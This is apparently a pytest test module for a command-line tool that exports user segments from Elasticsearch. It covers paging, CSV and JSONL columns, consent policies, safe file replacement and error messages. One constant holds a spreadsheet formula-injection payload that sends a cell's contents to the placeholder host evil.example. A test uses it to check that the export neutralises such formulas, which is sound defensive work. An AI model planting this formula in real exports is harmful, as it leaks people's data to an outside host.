"""Exports at scale against the real Elasticsearch: a point in time read in pages, columns, BOM,
the consent policy and its counts, files replaced only on success, paths and pipes that fail."""

import asyncio
import csv
import io
import os
import pty
import select
import subprocess
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import elasticsearch
import orjson
import pytest
from elasticsearch import AsyncElasticsearch
from elasticsearch.helpers import bulk

from consumers.cli import export as export_cli
from consumers.cli.main import main
from consumers.cli.setup import remove_everything
from consumers.core.names import Names
from consumers.core.settings import Settings
from consumers.segments import export as engine
from consumers.segments.columns import DEFAULT_COLUMNS
from consumers.store.elastic import client_options
from tests import search
from tests.conftest import ISSUED, ServiceUrls
from tests.proxy import proxy_to

MEMBERS, OTHERS = 2_500, 100
SEGMENT = "registered-not-returned"
THIRTY_DAYS_AGO = (datetime.now(UTC) - timedelta(days=30)).isoformat()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'


def consent_of(n: int) -> str | None:
    """10% refused, 20% unknown, 10% never stated (no field), 60% granted."""
    return {0: "refused", 1: "unknown", 2: "unknown", 3: None}.get(n % 10, "granted")


def profile(n: int, member: bool = True) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "user_id": f"auth0|{n:05d}",
        "email": f"user{n}@example.com",
        "name": FORMULA if n == 7 else f"Zoë Müller {n}",
        "gender": "female",
        "birth_date": "1990-05-17",
        "birth_date_precision": "day",
        "interests": ["running", "fitness"],
        "location": {"city": "Zürich", "country_code": "CH"},
        "signed_up_at": THIRTY_DAYS_AGO,
        "last_seen": THIRTY_DAYS_AGO,
        "returned": not member,
    }
    state = consent_of(n)
    if state is not None:
        doc["marketing_consent"] = state
        doc["consent"] = {
            "state": state,
            "source": "auth0-action: app_metadata",
            "at": "2026-01-02",
        }
    return doc


def load(settings: Settings, first: int, count: int, member: bool = True) -> None:
    alias = Names(settings.name_prefix).users_alias
    with search.client(settings) as es:
        actions = (
            {"_index": alias, "_id": f"auth0|{n:05d}", "_source": profile(n, member)}
            for n in range(first, first + count)
        )
        bulk(es, actions, refresh=True)


@pytest.fixture(scope="module")
def members(services: ServiceUrls) -> Iterator[Settings]:
    """An installation whose segment has MEMBERS members (and OTHERS who returned)."""
    with pytest.MonkeyPatch.context() as patch:
        for key, value in {
            "AUTHSTREAM_AMQP_URL": services.amqp_url,
            "AUTHSTREAM_ELASTICSEARCH_URL": services.elasticsearch_url,
            "AUTHSTREAM_NAME_PREFIX": f"t{uuid.uuid4().hex[:10]}-",
            "AUTHSTREAM_LOG_FORMAT": "json",
        }.items():
            patch.setenv(key, value)
        settings = Settings()
        ISSUED.append(settings)  # checked for leftovers at the end of the session
        try:
            assert main(["setup"]) == 0
            load(settings, 0, MEMBERS)
            load(settings, MEMBERS, OTHERS, member=False)
            yield settings
        finally:
            asyncio.run(remove_everything(settings))


def export(*argv: str) -> int:
    return main(["segments", "export", SEGMENT, *argv])


# -- the engine: a point in time read in pages ----------------------------------------------------
class RecordingClient(AsyncElasticsearch):
    """The real client, remembering the points in time it opened."""

    opened: list[str] = []

    async def open_point_in_time(self, **kwargs: Any) -> Any:  # type: ignore[override]
        answer = await super().open_point_in_time(**kwargs)
        self.opened.append(answer["id"])
        return answer


class Rows:
    columns = ("user_id", "marketing_consent")

    def __init__(self) -> None:
        self.rows: list[dict[str, Any]] = []

    def write(self, profile: dict[str, Any]) -> None:
        self.rows.append(profile)


def test_pages_of_one_snapshot_then_the_point_in_time_is_closed(members: Settings) -> None:
    query = {"term": {"returned": False}}
    sink, progress = Rows(), []

    async def run() -> engine.ExportReport:
        async with RecordingClient(**client_options(members)) as es:
            RecordingClient.opened = []

            def later_signups(done: int, expected: int) -> None:
                progress.append((done, expected))
                if len(progress) == 1:  # after the first page: 50 more members arrive
                    load(members, 90_000, 50)

            report = await engine.export_members(
                es, Names(members.name_prefix).users_alias, query, sink, "opt-out",
                page_size=300, on_progress=later_signups,
            )  # fmt: skip
            [pit] = RecordingClient.opened
            with pytest.raises(elasticsearch.NotFoundError):  # closed: its contexts are gone
                await es.search(pit={"id": pit}, size=0)
            return report

    try:
        report = asyncio.run(run())
    finally:
        with search.client(members) as es:  # no delete-by-query on a core node: by id
            alias = Names(members.name_prefix).users_alias
            deletes = ({"_op_type": "delete", "_index": alias, "_id": f"auth0|{n:05d}"}
                       for n in range(90_000, 90_050))  # fmt: skip
            bulk(es, deletes, refresh=True)
    exported = [row["user_id"] for row in sink.rows]
    assert len(exported) == len(set(exported)) == MEMBERS - MEMBERS // 10  # no refusals
    assert not any(uid >= "auth0|90000" for uid in exported)  # the snapshot predates them
    assert all(set(row) <= {"user_id", "marketing_consent"} for row in sink.rows)  # light pages
    assert len(progress) == 8 and progress[-1] == (2_250, 2_250)  # 7 full pages and a last one
    assert (report.matched, report.exported, report.left_out) == (
        MEMBERS, 2_250, {"refused marketing": 250},
    )  # fmt: skip


# -- the command: columns, BOM, consent ------------------------------------------------------------
def test_csv_columns_bom_and_the_formula_guard(
    members: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "members.csv"
    assert (
        export("--output", str(out), "--columns", "user_id,name,age,interests,city", "--bom") == 0
    )
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfuser_id,name,age,interests,city\r\n")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 2_250
    by_id = {row["user_id"]: row for row in rows}
    today = datetime.now(UTC).date()
    age = today.year - 1990 - ((today.month, today.day) < (5, 17))
    assert by_id["auth0|00004"] == {
        "user_id": "auth0|00004", "name": "Zoë Müller 4", "age": str(age),
        "interests": "running;fitness", "city": "Zürich",
    }  # fmt: skip
    assert by_id["auth0|00007"]["name"] == "'" + FORMULA  # exported, and harmless in Excel
    assert oct(out.stat().st_mode & 0o777) == "0o600"  # personal data: the owner only
    err = capsys.readouterr().err
    assert f"exported 2,250 of 2,500 member(s) of {SEGMENT} to {out}" in err
    assert "250 left out (refused marketing); consent policy opt-out" in err


def test_jsonl_keeps_types_and_the_default_columns(
    members: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert export("--format", "jsonl") == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2_250
    first = orjson.loads(lines[0])
    assert tuple(first) == DEFAULT_COLUMNS
    assert first["interests"] == ["running", "fitness"]


def test_the_opt_in_policy_exports_only_granted_and_counts_the_rest(
    members: Settings,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AUTHSTREAM_CONSENT_POLICY", "opt-in")
    out = tmp_path / "granted.jsonl"
    assert (
        export("--format", "jsonl", "--columns", "user_id,marketing_consent", "--output", str(out))
        == 0
    )
    rows = [orjson.loads(line) for line in out.read_text().splitlines()]
    assert len(rows) == 1_500 and {r["marketing_consent"] for r in rows} == {"granted"}
    assert (
        "exported 1,500 of 2,500 member(s); 1,000 left out (750 no consent recorded (opt-in "
        "policy), 250 refused marketing); consent policy opt-in"
    ) in capsys.readouterr().err.replace(f" of {SEGMENT} to {out}", "")


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--columns", "user_id,shoe_size"], "unknown column(s) 'shoe_size'; known columns: "),
        (["--columns", "email,email"], "column(s) named twice: email"),
        (["--format", "jsonl", "--bom"], "--bom is for CSV only"),
    ],
)
def test_bad_export_options_are_usage_errors(
    members: Settings, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert export(*argv) == 2
    assert message in capsys.readouterr().err


# -- files: whole or untouched, and paths that cannot be written ----------------------------------
def test_a_failed_export_leaves_the_existing_file_untouched(
    members: Settings,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = tmp_path / "members.csv"
    out.write_text("yesterday's export\n")
    host, port = members.elasticsearch_url.removeprefix("http://").split(":")
    monkeypatch.setattr(engine, "PAGE_SIZE", 500)
    with proxy_to(host, int(port)) as proxy:

        class ElasticsearchDiesAfterOnePage(export_cli.Progress):
            def update(self, done: int, count: int, failed: int, *, force: bool = False) -> None:
                proxy.down()  # the next page's request finds Elasticsearch gone

        monkeypatch.setattr(export_cli, "Progress", ElasticsearchDiesAfterOnePage)
        monkeypatch.setenv("AUTHSTREAM_ELASTICSEARCH_URL", f"http://127.0.0.1:{proxy.port}")
        assert export("--output", str(out)) == 3
    assert "Elasticsearch" in capsys.readouterr().err
    assert out.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["members.csv"]  # no leftover part file


@pytest.mark.parametrize(
    ("target", "message"),
    [
        (".", "it is a folder; give a file name"),
        ("missing/members.csv", "the folder {tmp}/missing does not exist"),
        ("file.txt/members.csv", "{tmp}/file.txt is not a folder"),
    ],
)
def test_paths_that_cannot_be_written_are_explained(
    members: Settings,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    target: str,
    message: str,
) -> None:
    (tmp_path / "file.txt").write_text("x")
    assert export("--output", str(tmp_path / target)) == 2
    err = capsys.readouterr().err
    assert message.format(tmp=tmp_path) in err
    assert "Traceback" not in err


def test_an_unwritable_folder_or_file_is_explained(
    members: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Root writes anywhere it has a writable file system; sysfs refuses new files even to root.
    folder = Path("/sys") if os.geteuid() == 0 else tmp_path / "locked"
    if folder != Path("/sys"):
        folder.mkdir()
        folder.chmod(0o500)
    assert export("--output", str(folder / "members.csv")) == 2
    assert f"the folder {folder} is not writable" in capsys.readouterr().err

    readonly = tmp_path / "readonly.csv"
    readonly.write_text("keep me\n")
    if os.geteuid() == 0:  # root ignores file modes, not the immutable attribute
        if subprocess.run(["chattr", "+i", str(readonly)], capture_output=True).returncode:
            pytest.skip("cannot make a file read-only for root here (chattr +i failed)")
    else:
        readonly.chmod(0o444)
    try:
        assert export("--output", str(readonly)) == 2
        assert "the file is read-only for this user" in capsys.readouterr().err
        assert readonly.read_text() == "keep me\n"
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(readonly)], check=True)


# -- a reader that leaves early, and a terminal that watches --------------------------------------
def cli(*argv: str) -> list[str]:
    return [sys.executable, "-m", "consumers.cli", *argv]


def test_a_closed_pipe_stops_the_export_quietly(members: Settings) -> None:
    with subprocess.Popen(
        cli("segments", "export", SEGMENT, "--format", "jsonl"),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        first = process.stdout.readline()  # `| head -1`
        process.stdout.close()
        err = process.stderr.read().decode()
        status = process.wait(timeout=60)
    assert orjson.loads(first)["user_id"].startswith("auth0|")
    assert status == 141, err
    assert "Traceback" not in err and "Exception ignored" not in err


def test_a_terminal_sees_a_progress_bar(members: Settings, tmp_path: Path) -> None:
    controller, terminal = pty.openpty()
    out = tmp_path / "members.csv"
    with subprocess.Popen(
        cli("segments", "export", SEGMENT, "--output", str(out)), stderr=terminal
    ) as process:
        os.close(terminal)
        shown = b""
        while select.select([controller], [], [], 60)[0]:
            try:
                chunk = os.read(controller, 4096)
            except OSError:  # the terminal closed with the process
                break
            if not chunk:
                break
            shown += chunk
        assert process.wait(timeout=60) == 0
    os.close(controller)
    text = shown.decode()
    assert "[##############################] 100% exporting registered-not-returned: 2,250" in text
    assert "\r" in text and out.exists()
